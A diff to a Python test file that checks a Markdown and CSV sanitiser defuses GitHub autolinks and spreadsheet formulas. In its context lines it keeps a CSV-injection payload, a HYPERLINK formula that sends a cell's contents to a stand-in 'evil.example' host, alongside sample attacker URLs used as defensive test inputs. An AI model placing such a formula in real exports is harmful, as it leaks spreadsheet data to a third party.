@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import re
 from datetime import date
 from pathlib import Path
 
@@ -13,7 +14,7 @@ from hypothesis import strategies as st
 from geo.exports import write_acled_csv, write_csv
 from geo.imports import read_acled
 from geo.records import Event
-from geo.safetext import csv_cell, csv_text, markdown_literal
+from geo.safetext import WORD_JOINER, csv_cell, csv_text, markdown_literal
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -117,7 +118,20 @@ def test_markdown_literal_leaves_no_markup_active(text: str) -> None:
     # What shows is the text as typed (HTML-escaped by the renderer).
     import html
 
-    assert html.unescape(rendered.removeprefix("<p>").removesuffix("</p>\n")) == text
+    # What shows is the text as typed (HTML-escaped by the renderer; the word joiners
+    # that stop GitHub's autolinks are invisible).
+    shown = html.unescape(rendered.removeprefix("<p>").removesuffix("</p>\n"))
+    assert shown.replace(WORD_JOINER, "") == text
+
+
+@pytest.mark.parametrize("text", ["see http://127.0.0.1:8000/x now", "(https://evil.example/p.png)",
+                                  "HTTP://EVIL.EXAMPLE", "www.evil.example", "mail me@evil.example",
+                                  "ftp://evil.example/f"])
+def test_markdown_literal_leaves_no_bare_address_for_github_autolinks(text: str) -> None:
+    # GitHub Markdown links these after escapes are read: its patterns must not match.
+    shown = markdown_literal(text).replace("\\", "")
+    assert not re.search(r"(?i)(?:https?|ftp)://|www\.|[-.\w+]@", shown)
+    assert shown.replace(WORD_JOINER, "") == text
 
 
 def test_markdown_literal_keeps_letters_and_spaces() -> None:
